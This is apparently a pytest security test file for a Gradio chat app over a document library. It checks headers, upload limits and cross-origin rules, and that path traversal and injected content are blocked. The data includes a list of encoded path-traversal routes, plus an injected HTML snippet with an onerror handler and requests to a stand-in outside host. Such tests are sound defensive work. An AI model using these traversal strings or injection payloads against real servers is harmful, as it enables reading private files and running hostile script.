"""What a stranger on the network tries: files of the library, routes that are not meant for him, a page of his own."""

import http.client
import json
import shutil
from urllib.parse import quote, urlsplit

import pytest
from conftest import ROOT

pytestmark = [
    pytest.mark.browser,
    # pytest-base-url, which pytest-playwright brings, has not followed pytest yet
    pytest.mark.filterwarnings("ignore:Session-scoped fixtures defined as instance methods"),
]

SECRET = "model = '只有管理员知道'"


@pytest.fixture(scope="module")
def office(tmp_path_factory, sample_library, serve):
    """A folder with settings and a library, and the page over it."""
    folder = tmp_path_factory.mktemp("office")
    shutil.copytree(sample_library, folder / "library")
    (folder / "zhengwen.toml").write_text(f"library = 'library'\n# {SECRET}\n", "utf-8")
    with serve([ROOT / "app.py", "--config", folder / "zhengwen.toml"], folder / "log") as url:
        yield folder, url


def get(url, path, method="GET", body=None, **headers):
    """Send a path as it is written, dots and all."""
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=20)
    connection.request(method, path, body, {name.replace("_", "-"): value for name, value in headers.items()})
    reply = connection.getresponse()
    content = reply.read()
    connection.close()
    return reply.status, reply.headers, content


def files(folder):
    """What must not be given away, and words of each."""
    original = next((folder / "library" / "originals").iterdir())
    return {
        folder / "zhengwen.toml": SECRET.encode(),
        folder / "library" / "catalogue.sqlite": b"SQLite format 3",
        folder / "library" / "index" / "CURRENT": (folder / "library" / "index" / "CURRENT").read_bytes(),
        original: original.read_bytes()[:60],
        ROOT / "app.py": b"The page: a chat",
    }


@pytest.mark.parametrize(
    "route",
    [
        "/gradio_api/file={path}",
        "/gradio_api/file=/{path}",
        "/gradio_api/file=./{relative}",
        "/gradio_api/file={relative}",
        "/gradio_api/file=library/../{relative}",
        "/gradio_api/file=%2e%2e/{folder}/{relative}",
        "/gradio_api/file={quoted}",
        "/gradio_api/file=file://{path}",
        "/gradio_api/file/{path}",
        "/file={path}",
        "/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..{path}",
        "/assets/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..{path}",
        "/svelte/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e{path}",
        "/static/{quoted}",
        "/gradio_api/proxy=file://{path}",
    ],
)
def test_no_file_is_given_away(office, route):
    folder, url = office
    for path, words in files(folder).items():
        relative = path.relative_to(folder) if path.is_relative_to(folder) else path
        written = {"path": quote(str(path)), "relative": quote(str(relative)), "folder": folder.name}
        status, _, content = get(url, route.format(quoted=quote(str(path), safe=""), **written))
        assert (400 <= status < 500, words in content) == (True, False), f"{route} {path}: {status}"


def test_what_is_sent_has_a_limit_and_must_say_its_size(office):
    _, url = office
    body = b'--x\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\nhello\r\n--x--\r\n'
    kind = "multipart/form-data; boundary=x"
    assert get(url, "/gradio_api/upload", "POST", body, Content_Type=kind)[0] == 200
    large = {"Content_Type": kind, "Content_Length": str(10**12)}
    assert get(url, "/gradio_api/upload", "POST", body, **large)[0] == 403


def test_asking_is_the_only_thing_offered_to_programs(office):
    _, url = office
    offered = json.loads(get(url, "/gradio_api/info")[2])
    assert (list(offered["named_endpoints"]), offered["unnamed_endpoints"]) == (["/ask"], {})
    spoken = json.dumps({"data": ["甲"]})
    for route in ("call/send", "call/v2/send", "run/begin", "api/begin"):
        assert get(url, f"/gradio_api/{route}", "POST", spoken, Content_Type="application/json")[0] == 403, route


@pytest.mark.parametrize("path", ["/", "/config", "/gradio_api/info", "/theme.css", "/no/such/page"])
def test_every_answer_tells_the_browser_to_stay_here(office, path):
    _, headers, _ = get(office[1], path)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert "default-src 'self'" in headers["Content-Security-Policy"]
    assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]


def test_a_page_of_another_site_may_not_ask(office):
    _, url = office
    spoken = json.dumps({"data": ["区财政局负责什么"]})
    sent = {"method": "POST", "body": spoken, "Content_Type": "application/json"}
    assert get(url, "/gradio_api/call/ask", Origin="http://pages.invalid", **sent)[0] == 403
    assert get(url, "/gradio_api/call/ask", Origin=url, **sent)[0] == 200


def test_words_that_became_a_tag_could_neither_run_nor_leave_the_machine(office, new_context):
    page = new_context().new_page()
    page.goto(office[1])
    page.wait_for_selector("#zw-ask textarea")
    stopped = page.evaluate("""async () => {
        const stopped = [];
        document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));
        const injected = document.createElement('div');
        injected.innerHTML = '<img src="x" onerror="window.attacked = 1"><img src="http://pages.invalid/a.png">'
            + '<iframe src="http://pages.invalid/"></iframe><form action="http://pages.invalid/"></form>';
        document.body.append(injected);
        injected.querySelector('form').submit();
        await fetch('http://pages.invalid/?words').catch(() => null);
        await new Promise((done) => setTimeout(done, 800));
        return stopped;
    }""")
    assert sorted(stopped) == ["connect-src", "form-action", "frame-src", "img-src", "script-src-attr"]
    assert page.evaluate("window.attacked") is None
